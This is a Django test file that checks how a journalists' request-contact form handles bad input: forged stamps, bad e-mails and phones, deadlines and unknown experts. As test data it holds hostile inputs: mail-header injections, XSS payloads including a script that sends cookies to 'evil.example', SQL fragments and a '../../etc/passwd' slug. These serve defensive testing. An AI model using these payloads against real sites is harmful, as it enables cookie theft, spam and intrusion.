"""Bad input on the request-contact form: each case answers with a clear message in the page's
language, saves nothing, queues no e-mail and is never a server error."""

from __future__ import annotations

import datetime
import re

import pytest
import time_machine
from django.core import mail, signing
from django.core.cache import cache
from django.utils import timezone

from experts.models import ContactRequest, ContactRequestEvent, OutboxMessage
from tests import factories
from tests.experts.request_contact_helpers import (
    error_texts,
    form_stamp,
    make_expert,
    sofia_input,
    submit,
    valid_data,
)

pytestmark = pytest.mark.django_db

LINE_BREAK = "Please keep this on one line: line breaks are not allowed here."
TAKE_A_MOMENT = "Please take a moment to check your request before sending it, then send it again."
GENERIC = "Your request could not be sent. Please check the form and try again."
UNKNOWN_EXPERT = (
    "We could not find that expert in the directory: the link may be old. You can still send "
    "your request below and a media officer will find the right person."
)
UNKNOWN_TOPIC = (
    "We could not find that topic. You can still send your request below and a media officer "
    "will find the right expert."
)


@pytest.fixture(autouse=True)
def fresh_rate_limits():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def expert(site_tree):
    return make_expert(site_tree)[0]


def assert_rejected(response) -> None:
    """The form is shown again with its errors; nothing was stored or sent."""
    assert response.status_code == 200
    assert 'class="error-summary"' in response.content.decode()
    assert error_texts(response)
    assert ContactRequest.objects.count() == 0
    assert ContactRequestEvent.objects.count() == 0
    assert OutboxMessage.objects.count() == 0
    assert mail.outbox == []


def send(client, expert, lang: str = "en", **overrides):
    return submit(client, f"/{lang}/request-contact/?expert={expert.pk}", valid_data(**overrides))


# Anti-abuse ---------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["en", "bg"])
def test_honeypot_hit_saves_nothing_and_says_nothing_specific(client, expert, language):
    response = send(client, expert, language, website="https://cheap-pills.example.com/")
    assert_rejected(response)
    if language == "en":
        assert error_texts(response) == [GENERIC]
    # What the journalist typed is still there (a person who filled it by accident loses nothing).
    assert "Дневник" in response.content.decode()


@pytest.mark.parametrize("language", ["en", "bg"])
def test_form_sent_too_fast_is_rejected(client, expert, language):
    response = submit(
        client, f"/{language}/request-contact/?expert={expert.pk}", valid_data(), after=1
    )
    assert_rejected(response)
    if language == "en":
        assert error_texts(response) == [TAKE_A_MOMENT]


def test_after_too_fast_the_form_can_be_sent_once_the_journalist_has_checked_it(client, expert):
    url = f"/en/request-contact/?expert={expert.pk}"
    first = submit(client, url, valid_data(), after=1)
    assert error_texts(first) == [TAKE_A_MOMENT]
    # The page carries a new stamp; sent again after a moment, the request goes through.
    with time_machine.travel(timezone.now() + datetime.timedelta(seconds=30)):
        second = client.post(url, {"stamp": form_stamp(first), **valid_data()})
    assert second.status_code == 302
    assert ContactRequest.objects.count() == 1


FORGED_STAMPS = [
    None,  # missing
    "",
    "1700000000.0",  # unsigned
    signing.dumps(0.0, salt="some.other.form"),  # signed for something else
    signing.dumps(0.0, salt="experts.request_contact.stamp", key="not-our-secret"),
    "MTcwMDAwMDAwMC4w:1rHHHH:forged-signature-forged-signature-forged",
]


def test_missing_or_forged_stamp_is_rejected(client, expert):
    for stamp in FORGED_STAMPS:
        data = valid_data()
        if stamp is not None:
            data["stamp"] = stamp
        with time_machine.travel(timezone.now() + datetime.timedelta(minutes=5)):
            response = client.post(f"/en/request-contact/?expert={expert.pk}", data)
        assert_rejected(response)
        assert error_texts(response) == [TAKE_A_MOMENT], stamp
        assert form_stamp(response) != (stamp or "")  # a fresh, valid stamp to try again with


# Required fields and formats ----------------------------------------------------------------


def test_consent_is_required(client, expert):
    response = send(client, expert, consent=None)
    assert_rejected(response)
    assert error_texts(response) == [
        "I have read the privacy notice and agree that my request is stored and passed on: "
        "Please accept the privacy notice: we cannot pass on your request without it.",
        "Please accept the privacy notice: we cannot pass on your request without it.",
    ]


def test_questions_and_name_are_required_in_bulgarian_too(client, expert):
    response = send(client, expert, "bg", questions="   ", journalist_name="")
    assert_rejected(response)
    # Django's own messages come with its Bulgarian catalogue.
    assert "Това поле е задължително." in error_texts(response)


def test_bad_deadlines(client, expert):
    cases = [
        (
            sofia_input(timezone.now() - datetime.timedelta(hours=2)),
            "This deadline has already passed: please give a date and time in the future.",
        ),
        (
            sofia_input(timezone.now() + datetime.timedelta(days=400)),
            "Please give a deadline within the next twelve months.",
        ),
        ("tomorrow at noon", "Enter a valid date/time."),
        ("2025-02-30T10:00", "Enter a valid date/time."),
        ("", "This field is required."),
    ]
    for value, message in cases:
        response = send(client, expert, deadline=value)
        assert_rejected(response)
        assert f"Your deadline: {message}" in error_texts(response), value


def test_deadline_in_the_hour_skipped_by_summer_time(client, expert):
    # Clocks in Sofia jump from 03:00 to 04:00 on the last Sunday of March: 03:30 never happens.
    with time_machine.travel(datetime.datetime(2031, 3, 1, 9, 0, tzinfo=datetime.UTC)):
        response = send(client, expert, deadline="2031-03-30T03:30")
    assert_rejected(response)
    assert any(
        text.startswith("Your deadline: 2031-03-30 03:30:00 couldn’t be interpreted in time zone")
        for text in error_texts(response)
    ), error_texts(response)


def test_deadline_is_read_as_sofia_time(client, expert):
    # 31 July, 09:30 in Sofia is 06:30 UTC (summer time, UTC+3).
    now = datetime.datetime(2031, 7, 1, 8, 0, tzinfo=datetime.UTC)
    with time_machine.travel(now, tick=False):
        stamp = form_stamp(client.get(f"/en/request-contact/?expert={expert.pk}"))
    with time_machine.travel(now + datetime.timedelta(minutes=1), tick=False):
        response = client.post(
            f"/en/request-contact/?expert={expert.pk}",
            {"stamp": stamp, **valid_data(deadline="2031-07-31T09:30")},
        )
    assert response.status_code == 302
    assert ContactRequest.objects.get().deadline == datetime.datetime(
        2031, 7, 31, 6, 30, tzinfo=datetime.UTC
    )


def test_bad_email(client, expert):
    for email in [
        "not-an-email",
        "elena@",
        "elena@dnevnik",
        "elena dimitrova@dnevnik.bg",
        "<elena@dnevnik.bg>",
    ]:
        response = send(client, expert, email=email)
        assert_rejected(response)
        assert "E-mail: Enter a valid email address." in error_texts(response), email


def test_bad_email_in_bulgarian(client, expert):
    response = send(client, expert, "bg", email="elena@")
    assert_rejected(response)
    assert "Въведете валиден имейл адрес." in error_texts(response)


def test_bad_phone(client, expert):
    for phone in [
        "12345",  # 5 digits
        "+359 88 123 4567 890 123 456",  # 22 digits
        "+359 88 ABC 4567",
        "088/123/4567",
        "+359 88 123 4567; DROP TABLE",
        "٠٨٨١٢٣٤٥٦٧",  # digits, but not the ones a phone number is written with here
    ]:
        response = send(client, expert, phone=phone)
        assert_rejected(response)
        assert (
            "Phone (optional): Please give a phone number of 6 to 20 digits; only spaces, +, - "
            "and brackets may go between them."
        ) in error_texts(response), phone


def test_good_phones(client, expert):
    phones = ["", "+359 (88) 123-45-67", "032 123456"]
    for phone in phones:
        assert send(client, expert, phone=phone).status_code == 302, phone
    assert sorted(ContactRequest.objects.values_list("phone", flat=True)) == sorted(phones)


def test_over_long_fields(client, expert):
    for field, label, limit in [
        ("journalist_name", "Your name", 120),
        ("outlet", "Media outlet", 160),
        ("questions", "Your questions", 4000),
        ("phone", "Phone (optional)", 40),
    ]:
        value = ("1" * (limit + 1)) if field == "phone" else ("Я" * (limit + 1))
        response = send(client, expert, **{field: value})
        assert_rejected(response)
        assert (
            f"{label}: Ensure this value has at most {limit} characters (it has {limit + 1})."
            in error_texts(response)
        ), field


def test_over_long_email(client, expert):
    email = "elena@" + ".".join(label * 50 for label in "dnews") + ".bg"
    assert len(email) > 254
    response = send(client, expert, email=email)
    assert_rejected(response)
    assert f"E-mail: Ensure this value has at most 254 characters (it has {len(email)})." in (
        error_texts(response)
    )


def test_fields_at_their_limits_are_accepted(client, expert):
    response = send(
        client, expert, journalist_name="Е" * 120, outlet="Д" * 160, questions="В" * 4000
    )
    assert response.status_code == 302


def test_over_long_field_in_bulgarian(client, expert):
    response = send(client, expert, "bg", outlet="Д" * 161)
    assert_rejected(response)
    assert any("160" in text and "161" in text for text in error_texts(response))


# Mail-header injection ----------------------------------------------------------------------


HEADER_INJECTIONS = [
    ("journalist_name", "Your name", "name\r\nBcc: x@y"),
    ("journalist_name", "Your name", "Елена\nBcc: victim@example.com"),
    ("outlet", "Media outlet", "Дневник\r\nSubject: free money"),
    ("outlet", "Media outlet", "Дневник\u2028Bcc: x@y"),
    ("email", "E-mail", "elena@dnevnik.example.bg\r\nBcc: x@y"),
    ("email", "E-mail", "elena@dnevnik.example.bg\nCc: x@y.bg"),
    ("email", "E-mail", "elena@dnevnik.example.bg\rBcc: x@y.bg"),
]


def test_line_breaks_in_header_fields_are_rejected(client, expert):
    for field, label, value in HEADER_INJECTIONS:
        response = send(client, expert, **{field: value})
        assert_rejected(response)
        assert f"{label}: {LINE_BREAK}" in error_texts(response), value


def test_line_breaks_are_rejected_in_bulgarian_too(client, expert):
    assert_rejected(send(client, expert, "bg", journalist_name="name\r\nBcc: x@y"))


# Markup is text ------------------------------------------------------------------------------


def test_markup_is_stored_as_typed_and_shown_as_text(
    client, expert, django_capture_on_commit_callbacks
):
    name = "<b>Елена</b> <script>alert('name')</script>"
    outlet = '"><img src=x onerror=alert(1)>'
    questions = "<script>document.location='https://evil.example/'+document.cookie</script>"
    with django_capture_on_commit_callbacks(execute=True):
        response = send(client, expert, journalist_name=name, outlet=outlet, questions=questions)

    assert response.status_code == 302
    saved = ContactRequest.objects.get()
    assert (saved.journalist_name, saved.outlet, saved.questions) == (name, outlet, questions)

    page = client.get(response["Location"]).content.decode()
    assert "&lt;b&gt;Елена&lt;/b&gt; &lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;" in page
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<script>alert" not in page and "<img src=x" not in page

    # Plain-text e-mails show the characters as typed: text, not markup and not entities.
    (confirmation,) = [m for m in mail.outbox if m.to == [saved.email]]
    assert confirmation.message().get_content_type() == "text/plain"
    assert f"Dear {name}," in confirmation.body
    (notice,) = [m for m in mail.outbox if m.to != [saved.email]]
    assert questions in notice.body and outlet in notice.body
    assert "&lt;" not in notice.body


def test_markup_in_a_rejected_form_is_escaped(client, expert):
    response = send(client, expert, outlet="<script>alert(1)</script>", phone="12")
    assert_rejected(response)
    page = response.content.decode()
    assert 'value="&lt;script&gt;alert(1)&lt;/script&gt;"' in page
    assert "<script>alert(1)" not in page


# Unknown targets -----------------------------------------------------------------------------


def test_unknown_or_malformed_expert_id(client, site_tree):
    for expert_id in ["999999", "abc", "12abc", "-1", "", "99999999999999999999999", "1;DROP"]:
        url = f"/en/request-contact/?expert={expert_id}"
        page = client.get(url)
        assert page.status_code == 200
        assert UNKNOWN_EXPERT in page.content.decode(), expert_id
        # The form drops the bad link, so the journalist can still send a general request.
        assert 'action="/en/request-contact/"' in page.content.decode()

        response = submit(client, url, valid_data())
        assert_rejected(response)
        assert UNKNOWN_EXPERT in error_texts(response)


def test_draft_or_private_expert_is_unknown(client, site_tree):
    expert_bg, _ = make_expert(site_tree)
    expert_bg.unpublish()
    page = client.get(f"/bg/request-contact/?expert={expert_bg.pk}")
    assert page.status_code == 200
    assert expert_bg.last_name not in page.content.decode()
    assert_rejected(submit(client, f"/bg/request-contact/?expert={expert_bg.pk}", valid_data()))


def test_a_page_that_is_not_an_expert_is_unknown(client, site_tree):
    page = client.get(f"/en/request-contact/?expert={site_tree.press_en.pk}")
    assert UNKNOWN_EXPERT in page.content.decode()


def test_unknown_topic(client, site_tree):
    factories.TopicFactory(name="Клинични изпитвания", slug="clinical-trials")
    for slug in ["no-such-topic", "../../etc/passwd", "тема", "x" * 500, ""]:
        url = f"/en/request-contact/?topic={slug}"
        page = client.get(url)
        assert page.status_code == 200
        assert UNKNOWN_TOPIC in page.content.decode(), slug
        response = submit(client, url, valid_data())
        assert_rejected(response)
        assert UNKNOWN_TOPIC in error_texts(response)


def test_unknown_expert_in_bulgarian(client, site_tree):
    page = client.get("/bg/request-contact/?expert=nope")
    assert page.status_code == 200
    assert 'class="notice"' in page.content.decode()
    assert_rejected(submit(client, "/bg/request-contact/?expert=nope", valid_data()))


def test_unknown_choices_are_rejected(client, expert):
    response = send(client, expert, media_format="carrier-pigeon", language="xx")
    assert_rejected(response)
    texts = error_texts(response)
    assert any(t.startswith("Format: Select a valid choice.") for t in texts)
    assert any(t.startswith("Interview language: Select a valid choice.") for t in texts)


def test_other_methods_are_not_allowed(client, expert):
    assert client.put(f"/en/request-contact/?expert={expert.pk}").status_code == 405
    assert client.post("/en/request-contact/sent/").status_code == 405


def test_error_summary_links_to_each_field(client, expert):
    response = send(client, expert, email="nope", phone="1")
    page = response.content.decode()
    summary = re.search(r'<div class="error-summary".*?</div>', page, flags=re.S).group(0)
    assert 'href="#id_email"' in summary and 'href="#id_phone"' in summary
    assert 'aria-invalid="true"' in page
